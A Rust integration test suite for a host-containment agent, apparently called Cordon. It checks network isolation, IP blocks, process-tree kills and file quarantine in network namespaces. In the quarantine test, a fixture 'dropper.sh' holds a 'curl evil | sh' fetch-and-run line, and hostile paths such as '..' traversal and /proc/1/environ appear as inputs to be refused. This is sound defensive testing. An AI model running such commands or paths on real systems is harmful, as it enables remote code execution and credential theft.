//! Containment with real traffic and real processes. The network tests use three namespaces
//! (`ctl` with the controller, `host` where the agent acts, entered with `--netns`, and `peer`
//! with TCP services, IPv4 and IPv6); nothing is ever isolated or blocked in the machine's
//! root namespace, and the namespaces go away when a test ends, failed or not.

#![allow(clippy::unwrap_used)]

use cordon_tests::deploy::{AgentHandle, CTL_ADDR, Deployment, HOST_V4, PEER_V4, PEER_V6};
use cordon_tests::netns::{EchoServer, connect, echoes, nft, reachable};
use cordon_tests::owned::{sleep_as, was_killed};
use cordon_tests::{require_root, within};
use std::net::SocketAddr;
use std::process::Command;
use std::time::Duration;

fn sa(ip: &str, port: u16) -> SocketAddr {
    SocketAddr::new(ip.parse().unwrap(), port)
}

fn started(d: &Deployment, name: &str) -> AgentHandle {
    let mut agent = d.enroll_agent(name, &[]);
    d.start_agent(&mut agent);
    d.wait_online(&agent, true, Duration::from_secs(20));
    agent
}

/// The three-namespace deployment with a running agent and an IPv4 echo service on the peer
/// (port 8080); returns the host and peer namespace names too.
fn with_peer() -> (Deployment, AgentHandle, String, String, EchoServer) {
    let d = Deployment::namespaces_with_peer("");
    let agent = started(&d, "host");
    let host = d.agent_ns.as_ref().unwrap().name.clone();
    let peer = d.peer_ns.as_ref().unwrap().name.clone();
    let echo = EchoServer::start(&peer, &format!("{PEER_V4}:8080"));
    (d, agent, host, peer, echo)
}

#[test]
fn isolation_cuts_everything_but_the_controller_and_the_allowlist_and_release_restores_it() {
    if !require_root(
        "isolation_cuts_everything_but_the_controller_and_the_allowlist_and_release_restores_it",
    ) {
        return;
    }
    let (d, agent, host, peer, _p4) = with_peer();
    let _p6 = EchoServer::start(&peer, &format!("[{PEER_V6}]:8080"));
    let _allowed = EchoServer::start(&peer, &format!("{PEER_V4}:9090"));
    let _h4 = EchoServer::start(&host, &format!("{HOST_V4}:7070"));

    // Before: both ways, both families.
    assert!(reachable(&host, sa(PEER_V4, 8080)));
    assert!(reachable(&host, sa(PEER_V6, 8080)));
    assert!(reachable(&peer, sa(HOST_V4, 7070)));
    let mut open = connect(&host, sa(PEER_V4, 8080), Duration::from_secs(2)).unwrap();
    assert!(echoes(&mut open, Duration::from_secs(2)));

    let allow = format!("{PEER_V4}:9090");
    let isolate = || d.ctl_json(&["isolate", &agent.id, "--allow", &allow, "--reason", "test"]);
    let res = isolate();
    assert_eq!(res["status"], "succeeded", "{res}");
    assert_eq!(res["result"]["isolation"]["isolated"], true, "{res}");

    assert!(
        !reachable(&host, sa(PEER_V4, 8080)),
        "new IPv4 connection out still works"
    );
    assert!(!reachable(&host, sa(PEER_V6, 8080)), "IPv6 still works");
    assert!(
        !reachable(&peer, sa(HOST_V4, 7070)),
        "new connection in still works"
    );
    assert!(
        !echoes(&mut open, Duration::from_secs(1)),
        "a connection opened before isolation still passes data"
    );
    assert!(
        reachable(&host, sa(PEER_V4, 9090)),
        "the allowlisted peer port is blocked"
    );
    // The controller is still there: the agent stays online and takes commands.
    d.ctl_json(&["ping", &agent.id]);
    let show = d.ctl(&["agents", "show", &agent.id]);
    assert!(
        within(Duration::from_secs(5), || {
            let s = d.ctl(&["agents", "show", &agent.id]);
            s.contains("desired isolated, observed isolated") && !s.contains("DRIFT")
        }),
        "{show}"
    );

    // Isolating again is idempotent.
    let again = isolate();
    assert_eq!(
        again["result"]["isolation"]["ruleset_hash"],
        res["result"]["isolation"]["ruleset_hash"]
    );

    let rel = d.ctl_json(&["release", &agent.id]);
    assert_eq!(rel["status"], "succeeded", "{rel}");
    assert!(reachable(&host, sa(PEER_V4, 8080)));
    assert!(reachable(&host, sa(PEER_V6, 8080)));
    assert!(reachable(&peer, sa(HOST_V4, 7070)));
}

#[test]
fn isolation_is_back_after_kill_9_and_a_lost_ruleset() {
    if !require_root("isolation_is_back_after_kill_9_and_a_lost_ruleset") {
        return;
    }
    let (d, mut agent, host, _peer, _p4) = with_peer();
    d.ctl_json(&["isolate", &agent.id]);
    assert!(!reachable(&host, sa(PEER_V4, 8080)));

    agent.proc.as_mut().unwrap().kill9();
    // As after a reboot: the kernel lost the ruleset while the agent was down.
    nft(&host, &["delete", "table", "inet", "cordon"]);
    assert!(reachable(&host, sa(PEER_V4, 8080)));

    d.start_agent(&mut agent);
    assert!(
        within(Duration::from_secs(10), || !reachable(
            &host,
            sa(PEER_V4, 8080)
        )),
        "isolation did not come back"
    );
    d.wait_online(&agent, true, Duration::from_secs(20));
    d.ctl_json(&["ping", &agent.id]);
    d.ctl_json(&["release", &agent.id]);
    assert!(reachable(&host, sa(PEER_V4, 8080)));
}

#[test]
fn isolation_that_would_cut_off_the_controller_is_rolled_back_and_reported() {
    if !require_root("isolation_that_would_cut_off_the_controller_is_rolled_back_and_reported") {
        return;
    }
    let (d, agent, host, _peer, _p4) = with_peer();
    // Something else on the host drops new connections to the controller (the open stream
    // keeps working), so the agent's reachability check through the new ruleset fails.
    let _undo = drop_new_controller_connections(&host);

    let res = d.try_ctl(&["isolate", &agent.id]);
    assert!(!res.status.success());
    let err = String::from_utf8_lossy(&res.stderr);
    assert!(
        err.contains("not reachable") && err.contains("rolled back"),
        "{err}"
    );
    assert!(
        reachable(&host, sa(PEER_V4, 8080)),
        "the host stayed isolated after a failed isolation"
    );
    assert!(!nft(&host, &["list", "tables"]).contains("inet cordon\n"));
}

#[test]
fn ip_blocks_work_for_v4_and_v6_and_expire() {
    if !require_root("ip_blocks_work_for_v4_and_v6_and_expire") {
        return;
    }
    let (d, agent, host, peer, _p4) = with_peer();
    let _p6 = EchoServer::start(&peer, &format!("[{PEER_V6}]:8080"));

    d.ctl_json(&["block-ip", &agent.id, PEER_V4, "--ttl", "3s"]);
    d.ctl_json(&["block-ip", &agent.id, &format!("{PEER_V6}/128")]);
    assert!(!reachable(&host, sa(PEER_V4, 8080)));
    assert!(!reachable(&host, sa(PEER_V6, 8080)));
    d.ctl_json(&["ping", &agent.id]);
    assert!(
        within(Duration::from_secs(8), || reachable(
            &host,
            sa(PEER_V4, 8080)
        )),
        "the IPv4 block did not expire"
    );
    assert!(
        !reachable(&host, sa(PEER_V6, 8080)),
        "the IPv6 block without ttl expired"
    );
    d.ctl_json(&["unblock-ip", &agent.id, PEER_V6]);
    assert!(reachable(&host, sa(PEER_V6, 8080)));
}

/// Makes nft in namespace `ns` drop new connections to the controller's port, as something
/// else on the host might; returns a guard that removes the rule.
fn drop_new_controller_connections(ns: &str) -> impl Drop {
    struct Undo(String);
    impl Drop for Undo {
        fn drop(&mut self) {
            let _ = Command::new("ip")
                .args([
                    "netns", "exec", &self.0, "nft", "delete", "table", "inet", "cdtest",
                ])
                .output();
        }
    }
    nft(
        ns,
        &[
            "add table inet cdtest; add chain inet cdtest out { type filter hook output priority 0; }; add rule inet cdtest out tcp dport 7443 ct state new drop",
        ],
    );
    Undo(ns.to_string())
}

#[test]
fn a_block_never_cuts_the_agent_off_its_controller() {
    if !require_root("a_block_never_cuts_the_agent_off_its_controller") {
        return;
    }
    let (d, agent, host, _peer, _p4) = with_peer();
    for cidr in [CTL_ADDR, "10.231.0.0/24", "0.0.0.0/0", "0.0.0.0/1"] {
        let err = d.ctl_refused(&["block-ip", &agent.id, cidr, "--ttl", "40s"]);
        assert!(
            err.contains(&format!("covers the controller's address {CTL_ADDR}")),
            "{cidr}: {err}"
        );
    }
    // Nothing was blocked, and the controller still reaches the agent at once.
    assert!(reachable(&host, sa(PEER_V4, 8080)));
    d.ctl_json(&["ping", &agent.id]);

    // A block after which the controller cannot be reached is rolled back.
    let undo = drop_new_controller_connections(&host);
    let err = d.ctl_refused(&["block-ip", &agent.id, PEER_V4]);
    assert!(
        err.contains("not reachable") && err.contains("rolled back"),
        "{err}"
    );
    drop(undo);
    assert!(
        reachable(&host, sa(PEER_V4, 8080)),
        "the rolled-back block still holds"
    );
    d.ctl_json(&["ping", &agent.id]);
}

#[test]
fn an_allowlist_that_lets_everything_through_is_refused() {
    if !require_root("an_allowlist_that_lets_everything_through_is_refused") {
        return;
    }
    let (d, agent, host, _peer, _p4) = with_peer();
    for allow in [
        ["0.0.0.0/0", "::/0"],
        ["0.0.0.0/1", "128.0.0.0/1"],
        ["::/1", "8000::/1"],
    ] {
        let err = d.ctl_refused(&[
            "isolate", &agent.id, "--allow", allow[0], "--allow", allow[1],
        ]);
        assert!(
            err.contains("refusing the allowlist") && err.contains("block nothing"),
            "{allow:?}: {err}"
        );
    }
    assert!(reachable(&host, sa(PEER_V4, 8080)));
    assert!(!nft(&host, &["list", "tables"]).contains("inet cordon\n"));
    d.ctl_json(&["ping", &agent.id]);
}

fn start_time(pid: u32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    cordon_agent::respond::kill::parse_stat(pid, &stat)
        .unwrap()
        .start_time
}

fn children(pid: u32) -> Vec<u32> {
    let all = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok());
    all.filter(|p| {
        std::fs::read_to_string(format!("/proc/{p}/stat"))
            .ok()
            .and_then(|s| cordon_agent::respond::kill::parse_stat(*p, &s))
            .is_some_and(|i| i.ppid == pid)
    })
    .collect()
}

fn gone(pid: u32, start: u64) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| cordon_agent::respond::kill::parse_stat(pid, &s))
        .is_none_or(|i| i.start_time != start || i.dead)
}

#[test]
fn kill_takes_a_whole_tree_and_never_a_recycled_pid_or_the_agent() {
    let d = Deployment::loopback("");
    let agent = started(&d, "host");

    let mut tree = Command::new("sh")
        .args(["-c", "sleep 300 & sleep 300 & wait"])
        .spawn()
        .unwrap();
    let root = tree.id();
    assert!(within(Duration::from_secs(5), || children(root).len() == 2));
    let kids: Vec<(u32, u64)> = children(root)
        .into_iter()
        .map(|p| (p, start_time(p)))
        .collect();
    let res = d.ctl_json(&[
        "kill",
        &agent.id,
        "--pid",
        &root.to_string(),
        "--start-time",
        &start_time(root).to_string(),
        "--tree",
    ]);
    assert_eq!(res["status"], "succeeded", "{res}");
    let killed: Vec<u64> = res["result"]["kill"]["killed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|k| k["pid"].as_u64().unwrap())
        .collect();
    assert_eq!(killed.len(), 3, "{res}");
    tree.wait().unwrap();
    for (pid, start) in kids {
        assert!(
            within(Duration::from_secs(2), || gone(pid, start)),
            "child {pid} survived"
        );
    }

    // A pid whose start time does not match is left alone.
    let mut victim = Command::new("sleep").arg("300").spawn().unwrap();
    let pid = victim.id();
    let wrong = start_time(pid) + 1;
    let out = d.try_ctl(&[
        "kill",
        &agent.id,
        "--pid",
        &pid.to_string(),
        "--start-time",
        &wrong.to_string(),
    ]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("another process"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        victim.try_wait().unwrap().is_none(),
        "the mismatched process was killed"
    );
    victim.kill().unwrap();
    victim.wait().unwrap();

    // The agent refuses to kill itself.
    let agent_pid = agent.proc.as_ref().unwrap().pid();
    let out = d.try_ctl(&["kill", &agent.id, "--pid", &agent_pid.to_string()]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("agent itself"));
    d.ctl_json(&["ping", &agent.id]);
}

#[test]
fn quarantine_and_restore_round_trip_and_hostile_paths_are_refused() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let d = Deployment::loopback("");
    let agent = started(&d, "host");
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("dropper.sh");
    std::fs::write(&file, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o750)).unwrap();
    let before = std::fs::metadata(&file).unwrap();
    let path = file.to_str().unwrap();

    let q = d.ctl_json(&["quarantine", &agent.id, "--path", path]);
    assert_eq!(q["status"], "succeeded", "{q}");
    let entry = &q["result"]["quarantined"];
    assert!(!file.exists());
    let qid = entry["id"].as_str().unwrap().to_string();
    let listed = d.ctl_list(&["quarantine", "list", &agent.id]);
    assert_eq!(listed[0]["original_path"], path);

    d.ctl_json(&["restore", &agent.id, "--quarantine-id", &qid]);
    let after = std::fs::metadata(&file).unwrap();
    assert_eq!(
        std::fs::read(&file).unwrap(),
        b"#!/bin/sh\ncurl evil | sh\n"
    );
    assert_eq!(
        (after.mode(), after.uid(), after.gid(), after.mtime()),
        (before.mode(), before.uid(), before.gid(), before.mtime())
    );

    std::os::unix::fs::symlink(dir.path(), dir.path().join("link")).unwrap();
    for (bad, why) in [
        (
            format!("{}/link/dropper.sh", dir.path().display()),
            "symlink",
        ),
        (
            format!(
                "{}/../{}/dropper.sh",
                dir.path().display(),
                dir.path().file_name().unwrap().to_str().unwrap()
            ),
            "'..'",
        ),
        ("/proc/1/environ".to_string(), "/proc"),
    ] {
        let out = d.try_ctl(&["quarantine", &agent.id, "--path", &bad]);
        assert!(!out.status.success());
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(why), "{bad}: {err}");
    }
    assert!(file.exists());
}

/// Restarts `agent` with `settings` merged into its config.
fn restart_with(d: &Deployment, agent: &mut AgentHandle, settings: &str) {
    agent.configure(settings);
    agent.proc.take().unwrap().terminate();
    d.start_agent(agent);
    d.wait_online(agent, true, Duration::from_secs(20));
}

#[test]
fn kill_with_a_thread_id_of_the_agent_is_refused_as_the_agent() {
    let d = Deployment::loopback("");
    let agent = started(&d, "host");
    let agent_pid = agent.proc.as_ref().unwrap().pid();
    let agent_start = start_time(agent_pid);
    let tid = std::fs::read_dir(format!("/proc/{agent_pid}/task"))
        .unwrap()
        .filter_map(|e| e.unwrap().file_name().to_str()?.parse::<u32>().ok())
        .find(|t| *t != agent_pid)
        .expect("the agent has threads");
    let err = d.ctl_refused(&["kill", &agent.id, "--pid", &tid.to_string()]);
    assert!(err.contains("a thread of the Cordon agent itself"), "{err}");
    d.ctl_json(&["ping", &agent.id]);
    assert!(!gone(agent_pid, agent_start), "the agent died");
}

#[test]
fn kill_knows_protected_programs_by_executable_never_by_name() {
    let d = Deployment::loopback("");
    let mut agent = started(&d, "host");
    let tmp = tempfile::tempdir().unwrap();

    // Named like the protected programs (the process chooses its name): killable.
    for name in ["sshd", "systemd", "cordon-agent"] {
        let mut lookalike = sleep_as(&tmp.path().join("lookalike").join(name));
        let res = d.ctl_json(&["kill", &agent.id, "--pid", &lookalike.id().to_string()]);
        assert_eq!(res["status"], "succeeded", "{name}: {res}");
        assert!(was_killed(&mut lookalike), "{name} was not killed");
    }

    // The executable configured as protected is refused, whatever it is called; a copy of it
    // with the same name is not protected.
    let guarded_exe = tmp.path().join("opt/guarded");
    let mut guarded = sleep_as(&guarded_exe);
    let mut copy = sleep_as(&tmp.path().join("elsewhere/guarded"));
    let exe = toml::Value::from(guarded_exe.display().to_string());
    let settings = format!("[containment]\nprotected_processes = [{exe}]\n");
    restart_with(&d, &mut agent, &settings);
    let err = d.ctl_refused(&["kill", &agent.id, "--pid", &guarded.id().to_string()]);
    assert!(err.contains("a protected executable"), "{err}");
    assert!(
        guarded.try_wait().unwrap().is_none(),
        "the protected process died"
    );
    let res = d.ctl_json(&["kill", &agent.id, "--pid", &copy.id().to_string()]);
    assert_eq!(res["status"], "succeeded", "{res}");
    assert!(was_killed(&mut copy));
    guarded.kill().unwrap();
    guarded.wait().unwrap();
}

#[test]
fn quarantine_refuses_a_fifo_at_once_without_opening_it() {
    let d = Deployment::loopback("");
    let agent = started(&d, "host");
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("fifo");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    // Opening it for reading would block an agent thread until a writer came.
    let err = d.ctl_refused(&["quarantine", &agent.id, "--path", fifo.to_str().unwrap()]);
    assert!(err.contains("not a regular file but a FIFO"), "{err}");
    assert!(fifo.exists());
    d.ctl_json(&["ping", &agent.id]);
}

/// Quarantines `file`, which must be refused for `why`; a regression puts it back first.
fn refused_quarantine(d: &Deployment, agent: &AgentHandle, file: &std::path::Path, why: &str) {
    let path = file.to_str().unwrap();
    let out = d.try_ctl(&["quarantine", &agent.id, "--path", path, "--json"]);
    if out.status.success() {
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let qid = v["result"]["quarantined"]["id"].as_str().unwrap();
        d.ctl_json(&["restore", &agent.id, "--quarantine-id", qid]);
        panic!("{path} was quarantined");
    }
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(why) && err.contains("--force"),
        "{path}: {err}"
    );
    assert!(file.exists());
}

#[test]
fn quarantine_refuses_the_agents_own_and_protected_files_and_force_is_audited() {
    let d = Deployment::loopback("");
    let mut agent = started(&d, "host");
    let binary = cordon_tests::binaries::bin("cordon-agent");
    for file in [agent.config.clone(), binary] {
        refused_quarantine(&d, &agent, &file, "the agent's own file");
    }

    // A configured critical file, also under another name (a hard link is the same file).
    let dir = tempfile::tempdir().unwrap();
    let critical = dir.path().join("critical.conf");
    std::fs::write(&critical, b"keep me").unwrap();
    let alias = dir.path().join("alias.conf");
    std::fs::hard_link(&critical, &alias).unwrap();
    let listed = toml::Value::from(critical.display().to_string());
    restart_with(
        &d,
        &mut agent,
        &format!("[containment]\nprotected_files = [{listed}]\n"),
    );
    refused_quarantine(&d, &agent, &critical, "a protected file");
    refused_quarantine(&d, &agent, &alias, "a protected file");

    // --force overrides, and the audit log says so.
    let path = critical.to_str().unwrap();
    let q = d.ctl_json(&["quarantine", &agent.id, "--path", path, "--force"]);
    assert_eq!(q["status"], "succeeded", "{q}");
    assert!(!critical.exists());
    let audit = d.ctl_list(&["audit"]);
    let entry = audit
        .as_array()
        .unwrap()
        .iter()
        .rev()
        .find(|e| e["action"] == "command.quarantine")
        .expect("the forced quarantine in the audit log");
    assert_eq!(entry["detail"]["force"], true, "{entry}");
    let qid = q["result"]["quarantined"]["id"].as_str().unwrap();
    d.ctl_json(&["restore", &agent.id, "--quarantine-id", qid]);
    assert_eq!(std::fs::read(&critical).unwrap(), b"keep me");
}
